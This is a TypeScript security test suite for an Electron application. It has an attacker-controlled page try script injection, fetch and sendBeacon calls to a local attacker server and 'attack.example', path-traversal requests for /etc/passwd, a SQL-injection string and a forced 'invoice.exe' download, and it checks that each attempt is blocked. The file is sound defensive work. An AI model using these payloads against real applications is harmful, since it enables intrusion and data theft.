import { createServer } from 'node:http';
import type { Server } from 'node:http';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { REQUEST_NAMES } from '#contract';
import { electronHere } from '../../scripts/window/electron-here.ts';
import { buildApplication, openHome } from '../electron/application.ts';
import type { Home, TestApplication } from '../electron/application.ts';

const electron = electronHere();
if (electron.program === null) {
  console.warn(`The attacks on the window in Electron did not run: ${electron.reason}.`);
}

describe.skipIf(electron.program === null)('a page in Electron that an attacker controls', () => {
  let home: Home;
  let started: TestApplication;
  /** Listens on this machine as an attacker would, and counts who comes. */
  let attacker: Server;
  let address: string;
  let visitors: string[];

  beforeAll(async () => {
    await buildApplication();
    attacker = createServer((request, response) => {
      visitors.push(request.url ?? '');
      response.end('got you');
    });
    await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
    const place = attacker.address();
    address = `http://127.0.0.1:${typeof place === 'object' && place !== null ? place.port : 0}`;
    home = await openHome(electron.program ?? '');
    started = await home.start();
    // Whatever dialog would open, the user cancels it.
    await started.application.evaluate(({ dialog, shell }) => {
      Reflect.set(globalThis, 'asked', []);
      Reflect.set(globalThis, 'opened', []);
      dialog.showMessageBox = (options: unknown) => {
        (Reflect.get(globalThis, 'asked') as unknown[]).push(options);
        return Promise.resolve({ response: 1, checkboxChecked: false });
      };
      Reflect.set(shell, 'openExternal', (url: string) => {
        (Reflect.get(globalThis, 'opened') as unknown[]).push(url);
        return Promise.resolve();
      });
    });
  });
  afterAll(async () => {
    await started.close();
    home.close();
    attacker.close();
  });
  beforeEach(() => {
    visitors = [];
  });

  function windows(): Promise<number> {
    return started.application.evaluate(
      ({ BrowserWindow }) => BrowserWindow.getAllWindows().length,
    );
  }

  /** Long enough for what was started to arrive, were it let through. */
  async function aMoment(): Promise<void> {
    await started.page.waitForTimeout(500);
  }

  /*
   * The page looks for Node: to read files, or to start programs.
   */
  it('finds no Node and no Electron', async () => {
    const found = await started.page.evaluate(() =>
      ['require', 'process', 'module', 'Buffer', 'electron', 'ipcRenderer', '__dirname'].filter(
        (name) => name in globalThis,
      ),
    );
    const preferences = await started.application.evaluate(({ BrowserWindow }) => {
      const contents: unknown = BrowserWindow.getAllWindows()[0]?.webContents;
      const read = Reflect.get(contents as object, 'getLastWebPreferences') as () => object;
      const all = Reflect.apply(read, contents, []) as Record<string, unknown>;
      const names = ['sandbox', 'contextIsolation', 'nodeIntegration', 'webSecurity', 'webviewTag'];
      return Object.fromEntries(names.map((name) => [name, all[name]]));
    });

    expect(found).toEqual([]);
    expect(preferences).toEqual({
      sandbox: true,
      contextIsolation: true,
      nodeIntegration: false,
      webSecurity: true,
      webviewTag: false,
    });
  });

  /*
   * The page changes what the preload gave it, to hear what others send, or asks for more.
   */
  it('cannot change the way to the laboratory', async () => {
    const names = await started.page.evaluate(() => {
      try {
        Reflect.set(lab, 'listRuns', () => 'mine');
        Reflect.set(lab, 'formatDisk', () => 'mine');
      } catch {
        // What cannot be changed may say so.
      }
      return Object.keys(lab);
    });
    const runs = await started.ask('listRuns', null);
    // Later, because what a test evaluates itself may make functions of text.
    const made = await started.page.evaluate(
      () =>
        new Promise<string>((resolve) => {
          setTimeout(() => {
            try {
              const text = ['return typeof require'];
              resolve(String(Reflect.apply(lab.listRuns.constructor as () => void, null, text)));
            } catch {
              resolve('refused');
            }
          });
        }),
    );

    expect(names.filter((name) => !name.startsWith('on')).sort()).toEqual(
      [...REQUEST_NAMES, 'bringFile'].sort(),
    );
    expect(runs).toEqual({ ok: true, value: [] });
    expect(made).toBe('refused');
  });

  /*
   * A name with markup in it is shown without being escaped, and brings a script, an address or a sheet
   * of its own.
   */
  it('runs no text, and loads nothing from elsewhere', async () => {
    const violations = await started.page.evaluate(async (other) => {
      const found: string[] = [];
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
        found.push(effectiveDirective),
      );
      const add = (tag: string, properties: Record<string, string>): void => {
        document.body.append(Object.assign(document.createElement(tag), properties));
      };
      const attack = (): void => {
        add('script', { textContent: 'globalThis.broken = "inline"' });
        add('script', { src: `${other}/script.js` });
        add('img', { src: `${other}/picture.png` });
        add('iframe', { src: `${other}/frame` });
        add('link', { rel: 'stylesheet', href: `${other}/sheet.css` });
        add('object', { data: `${other}/object` });
        add('style', { textContent: 'body { display: none }' });
        const markup = '<img src="x:" onerror="globalThis.broken = \'handler\'">';
        document.body.insertAdjacentHTML('beforeend', markup);
        void fetch(`${other}/fetched`).catch(() => undefined);
        navigator.sendBeacon(`${other}/beacon`);
        Reflect.apply(globalThis.eval, undefined, ['globalThis.broken = "evaluated"']);
      };
      // Later, because what a test evaluates itself may make functions of text.
      setTimeout(attack);
      await new Promise((resolve) => setTimeout(resolve, 500));
      return [String(Reflect.get(globalThis, 'broken')), ...new Set(found)];
    }, address);

    const [broken, ...directives] = violations;
    expect(broken).toBe('undefined');
    expect(directives).toEqual(
      expect.arrayContaining([
        'script-src',
        'script-src-elem',
        'script-src-attr',
        'style-src-elem',
        'img-src',
        'connect-src',
        'frame-src',
      ]),
    );
    expect(visitors).toEqual([]);
  });

  /*
   * Without a policy in the way, the page would still not reach the network: the session refuses every
   * request that is not for the window's own files.
   */
  it('cannot reach another address even where no policy says so', async () => {
    const reached = await started.application.evaluate(async ({ net }, other) => {
      try {
        await net.fetch(other);
        return true;
      } catch {
        return false;
      }
    }, `${address}/net`);

    expect(reached).toBe(false);
    expect(visitors).toEqual([]);
  });

  /*
   * The page leads the user, or the window itself, to a page of the attacker's, which would then have
   * the preload.
   */
  it('cannot lead the window elsewhere', async () => {
    const before = started.page.url();
    const places = [
      `${address}/page`,
      'https://attack.example/',
      'file:///etc/passwd',
      'data:text/html,<h1>mine</h1>',
      'javascript:document.title="mine"',
      'folio-lab://other/index.html',
    ];
    for (const place of places) {
      await started.page.evaluate((target) => {
        const link = Object.assign(document.createElement('a'), { href: target });
        document.body.append(link);
        link.click();
        location.assign(target);
      }, place);
      await aMoment();
      expect(started.page.url()).toBe(before);
    }

    expect(visitors).toEqual([]);
    expect(await started.page.title()).not.toBe('mine');
  });

  /*
   * The page opens windows of its own, or a browser with what it knows in the address. Only https may
   * leave, and only when the user, who sees the whole address, says so.
   */
  it('opens no windows, and no address the user did not agree to', async () => {
    const places = [
      `${address}/popup`,
      'file:///etc/passwd',
      'smb://attack.example/share',
      'ms-settings:',
      'https://user:secret@attack.example/',
      'https://attack.example/?all=it-knows',
      'folio-lab://window/index.html',
      'about:blank',
    ];
    await started.page.evaluate(
      (targets) => targets.forEach((target) => window.open(target)),
      places,
    );
    await aMoment();

    const asked = await started.application.evaluate(() =>
      (Reflect.get(globalThis, 'asked') as { detail: string }[]).map(({ detail }) => detail),
    );
    const opened = await started.application.evaluate((): unknown =>
      Reflect.get(globalThis, 'opened'),
    );
    expect(await windows()).toBe(1);
    expect(asked).toEqual(['https://attack.example/?all=it-knows']);
    expect(opened).toEqual([]);
    expect(visitors).toEqual([]);
  });

  /*
   * The page asks for what a machine can do: see, hear, know where it is, use what is plugged in.
   */
  it('is given no power over the machine', async () => {
    const states = await started.page.evaluate(async () => {
      const names = ['geolocation', 'notifications', 'camera', 'microphone', 'midi'];
      const found: string[] = [];
      for (const name of names) {
        const query = { name: name as PermissionName };
        const state = await navigator.permissions.query(query).then(
          ({ state: granted }) => granted,
          () => 'denied',
        );
        found.push(state);
      }
      const media = await navigator.mediaDevices.getUserMedia({ audio: true }).then(
        () => 'granted',
        () => 'denied',
      );
      const screen = await navigator.mediaDevices.getDisplayMedia().then(
        () => 'granted',
        () => 'denied',
      );
      const clipboard = await navigator.clipboard.readText().then(
        () => 'granted',
        () => 'denied',
      );
      return [...found, media, screen, clipboard];
    });

    expect(new Set(states)).toEqual(new Set(['denied']));
  });

  /*
   * The page asks our own protocol for files beside the window's.
   */
  it('is given no file outside the window', async () => {
    const statuses = await started.page.evaluate(async () => {
      const paths = [
        '/../../package.json',
        '/%2e%2e/%2e%2e/package.json',
        '/..%2f..%2fpackage.json',
        '/..%5c..%5cpackage.json',
        '//etc/passwd',
        '/nothing.js',
      ];
      const found: number[] = [];
      for (const path of paths) {
        found.push(
          await fetch(`folio-lab://window${path}`).then(
            ({ status }) => status,
            () => 0,
          ),
        );
      }
      return found;
    });

    expect(statuses.every((status) => status === 404 || status === 0)).toBe(true);
  });

  /*
   * The page starts a download that lands where the user does not look.
   */
  it('cannot put files on the disk by itself', async () => {
    await started.application.evaluate(({ session }) => {
      Reflect.set(globalThis, 'downloads', []);
      session.defaultSession.on('will-download', (event) => {
        (Reflect.get(globalThis, 'downloads') as boolean[]).push(event.defaultPrevented);
      });
    });
    await started.page.evaluate(() => {
      const href = URL.createObjectURL(new Blob(['malware']));
      const link = Object.assign(document.createElement('a'), { href, download: 'invoice.exe' });
      document.body.append(link);
      link.click();
    });
    await aMoment();

    const prevented = await started.application.evaluate((): unknown =>
      Reflect.get(globalThis, 'downloads'),
    );
    expect(prevented).toEqual([true]);
  });

  /*
   * The page sends what no window of ours would send.
   */
  it('gets a sentence for every nonsense it sends', async () => {
    const replies = await started.page.evaluate(async () => {
      const send = (name: string, input: unknown): Promise<unknown> =>
        Promise.resolve(Reflect.apply(Reflect.get(lab, name) as () => unknown, lab, [input]));
      return [
        await send('startRun', { text: 7, sessionId: '../..', parentRunId: {} }),
        await send('readRun', { id: "' OR 1=1 --" }),
        await send('saveDraft', { text: 'x'.repeat(4_000_001) }),
        await send('openSessionFile', { upload: '/etc/passwd' }),
        await send('setTags', { kind: 'disk', id: null, tags: 'all' }),
        await send('purge', undefined),
      ];
    });

    for (const reply of replies) expect(reply).toMatchObject({ ok: false, code: 'bad-input' });
  });

  /*
   * The page makes a file of its own that is called like one of the user's, or names one by its path.
   */
  it('cannot open a file that the user did not bring', async () => {
    const replies = await started.page.evaluate(async () => [
      await lab.bringFile(new File(['x'], '/etc/hostname.yaml')),
      await lab.bringFile({ name: '/etc/hostname.yaml', size: 1 }),
      await lab.openExperimentFile({ upload: '/etc/hostname.yaml' }),
      await lab.openLayoutFile({ upload: '/etc/hostname.csv' }),
      await lab.openRecentFile({ path: '/etc/hostname' }),
    ]);

    expect(replies).toMatchObject([
      { ok: false, code: 'bad-input' },
      { ok: false, code: 'bad-input' },
      { ok: false, code: 'bad-input' },
      { ok: false, code: 'bad-input' },
      { ok: false, code: 'not-found' },
    ]);
  });
});
